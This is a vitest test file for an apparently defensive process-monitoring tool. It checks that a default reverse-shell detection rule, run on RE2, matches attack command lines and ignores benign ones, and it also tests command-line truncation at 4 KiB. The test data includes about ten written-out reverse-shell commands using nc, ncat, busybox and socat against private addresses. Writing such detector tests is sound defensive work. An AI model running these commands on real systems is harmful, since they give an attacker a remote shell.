// Issue 13 row 3: PROCESS patterns run on RE2 against a command line cut to 4 KiB, and the default
// reverse-shell rule still catches the same attacks without matching everyday commands.
import { createLogger } from '@tripwire/logger';
import { describe, expect, it } from 'vitest';
import { DEFAULT_RULES_FILE, loadLocalRules } from '../../src/local-rules.js';
import { parseCmdline, readCmdlineBytes } from '../../src/sensors/proc-processes.js';
import { compileProcessPattern } from '../../src/sensors/process-pattern.js';
import { rule } from './sensor-harness.js';

const log = createLogger({ name: 'pattern-test', level: 'silent' });
const reverseShell = loadLocalRules(DEFAULT_RULES_FILE).find(
  (r) => r.name === 'reverse-shell-tools',
)!;
const pattern = compileProcessPattern(reverseShell, log)!;

describe('the default reverse-shell rule', () => {
  it.each([
    'nc -e /bin/sh 203.0.113.7 4444',
    '/usr/bin/nc -lvp 4444 -e /bin/bash',
    'nc.traditional -c /bin/sh 10.0.0.1 9001',
    'netcat -nve /bin/sh 10.0.0.1 9001',
    'ncat --exec /bin/bash 10.0.0.1 443',
    'ncat --sh-exec "bash -i" 10.0.0.1 443',
    '/bin/busybox nc 10.0.0.1 4444 -e /bin/sh',
    'socat TCP:10.0.0.1:4444 EXEC:/bin/bash',
    "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid",
    'socat OPENSSL:10.0.0.1:443,verify=0 SYSTEM:sh',
  ])('matches %s', (cmdline) => {
    expect(pattern.test(cmdline)).toBe(true);
  });

  it.each([
    'nc -zv db.internal 5432',
    'nc -l 8080',
    'ncat --version',
    'ncdu -x /',
    'socat TCP-LISTEN:8080,fork TCP:backend:80',
    'grep -e nc /etc/services',
    'vim /etc/nc.conf',
    'rsync -e ssh a b',
    '/usr/sbin/sshd -D',
    'bash -c echo nc',
  ])('does not match %s', (cmdline) => {
    expect(pattern.test(cmdline)).toBe(false);
  });

  it('returns at once on 128 KiB of "/nc /nc …" (RE2), and sees only the first 4 KiB anyway', () => {
    const raw = Buffer.from(`${'/nc\0'.repeat(32 * 1024)}`);
    const cut = readCmdlineBytes(raw);
    expect(cut.bytes).toBe(raw.length - 1);
    expect(Buffer.byteLength(cut.text)).toBe(4096);
    expect(pattern.test(cut.text)).toBe(false);
    // Even uncut, RE2 answers (the JavaScript engine took ~9 s here: pnpm bench:agent).
    expect(pattern.test(raw.toString().replaceAll('\0', ' '))).toBe(false);
  });
});

describe('compiling a PROCESS rule', () => {
  it('refuses a pattern RE2 cannot run (backreference, lookaround) instead of backtracking', () => {
    expect(compileProcessPattern(rule('PROCESS', '(a+)\\1'), log)).toBeNull();
    expect(compileProcessPattern(rule('PROCESS', 'nc(?= -e)'), log)).toBeNull();
    expect(compileProcessPattern(rule('PROCESS', '^sleep \\d+$'), log)!.test('sleep 30')).toBe(
      true,
    );
  });

  it('matches a target that is no regular expression as a literal substring', () => {
    const literal = compileProcessPattern(rule('PROCESS', '[tw('), log)!;
    expect(literal.test('x [tw( y')).toBe(true);
    expect(literal.describe).toBe('"[tw("');
  });

  it('cuts a command line at a character boundary and keeps invalid UTF-8 as U+FFFD', () => {
    expect(parseCmdline(Buffer.from('nc\0-lvp\x004444\0'))).toBe('nc -lvp 4444');
    expect(parseCmdline(Buffer.from('aé'), 2)).toBe('a');
    expect(parseCmdline(Buffer.from([0x61, 0xff, 0x00, 0x62]))).toBe('a\uFFFD b');
  });
});
